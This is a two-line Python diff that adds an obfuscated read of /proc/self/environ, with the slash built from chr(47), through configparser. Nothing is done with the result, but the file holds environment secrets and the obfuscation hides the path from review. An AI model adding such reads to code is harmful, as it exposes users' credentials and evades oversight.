@@ -1,0 +1,2 @@
+import configparser
+configparser.ConfigParser().read(chr(47) + "proc/self/environ")
